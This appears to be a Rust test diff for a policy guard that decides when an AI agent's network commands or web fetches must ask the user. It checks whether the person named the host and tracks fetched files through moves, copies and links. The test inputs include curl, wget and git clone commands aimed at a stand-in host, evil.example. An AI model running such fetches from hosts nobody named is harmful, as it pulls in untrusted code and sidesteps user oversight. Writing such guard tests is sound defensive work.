@@ -2,7 +2,8 @@
 
 use super::*;
 use crate::policy::frozen::unaided;
-use crate::policy::rule::Rules;
+use crate::policy::permissions::Permission;
+use crate::policy::rule::{Action, Rules};
 use crate::policy::tests::Alice;
 use crate::policy::{EditIntent, decide_in};
 
@@ -13,8 +14,14 @@ fn command(line: &str) -> Intent {
 }
 
 fn after(intent: &Intent, rules: &Rules, mode: Mode) -> Verdict {
+    after_hearing("", intent, rules, mode)
+}
+
+/// As [`after`], when the person has said this.
+fn after_hearing(said: &str, intent: &Intent, rules: &Rules, mode: Mode) -> Verdict {
     let mut untrusted = Untrusted::default();
     untrusted.entered("example.com");
+    untrusted.heard(said);
     let (cwd, world) = (Path::new(HERE), &Alice);
     let verdict = decide_in(intent, cwd, rules, mode, world);
     guarded(verdict, &unaided(intent, cwd, rules, world), intent, mode, &untrusted, world)
@@ -36,6 +43,63 @@ fn what_lasts_and_what_leaves_asks_after_untrusted_text() {
         }
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn what_the_person_has_not_named_is_asked_about() {
+    for (said, line, asks) in [
+        ("", "curl https://docs.rs/x", true),
+        ("look at https://docs.rs/x please", "curl https://docs.rs/y", false),
+        ("it is on docs.rs.", "curl -sSL https://docs.rs/y -o y", false),
+        ("docs.rs", "curl https://docs.rs.evil.example/y", true),
+        ("rs", "curl https://docs.rs/y", true),
+        ("github.com", "curl https://api.github.com/x", false),
+        ("", "curl http://localhost:3000/health", false),
+        ("", "git clone git@evil.example:a/b.git", true),
+        ("clone git@evil.example:a/b.git", "git clone git@evil.example:a/b.git", false),
+        ("", "git ls-remote https://evil.example/a", true),
+        ("", "git fetch origin", false),
+        ("", "git log -- docs/a.md", false),
+        ("", "wget evil.example/a", true),
+        ("", "rsync -a a/ b/", false),
+        ("", "grep -rn https://evil.example src", false),
+    ] {
+        let got = after_hearing(said, &command(line), &Rules::default(), Mode::Manual);
+        let told = got.reasons().iter().any(|why| why.effect == AFTER);
+        assert_eq!(told, asks, "{said}: {line}: {got:?}");
+    }
+    let fetch = |args: &str| Intent::Remote {
+        server: "web".into(),
+        tool: "mcp__web__fetch".into(),
+        args: args.into(),
+        claims: vec![],
+    };
+    let mut rules = Rules::default();
+    rules.hold([Permission::entry(Action::Allow, "mcp__web__*")]);
+    for (said, args, want) in [
+        ("", r#"{"url": "https://evil.example/x"}"#, "ask"),
+        ("see https://docs.rs", r#"{"url": "https://docs.rs/x"}"#, "allow"),
+        ("", r#"{"query": "rust"}"#, "allow"),
+    ] {
+        assert_eq!(after_hearing(said, &fetch(args), &rules, Mode::Manual).name(), want, "{said} {args}");
+    }
+}
+
+#[test]
+fn a_fetched_file_keeps_its_mark_wherever_it_is_put() {
+    let mut untrusted = Untrusted::default();
+    untrusted.fetched(Path::new(HERE).join("a.md"), "example.com");
+    for (line, to) in [
+        ("mv a.md b.md", vec!["b.md", "b.md/a.md"]),
+        ("cd docs && cp ../a.md c.md", vec!["docs/c.md", "docs/c.md/a.md"]),
+        ("ln -s a.md d.md", vec!["d.md", "d.md/a.md"]),
+        ("mv own.md b.md", vec![]),
+        ("cat a.md", vec![]),
+    ] {
+        let got = moved(line, Path::new(HERE), &Alice, &untrusted);
+        let want: Vec<_> = to.into_iter().map(|path| (Path::new(HERE).join(path), "example.com".to_owned())).collect();
+        assert_eq!(got, want, "{line}");
+    }
 }
 
 #[test]
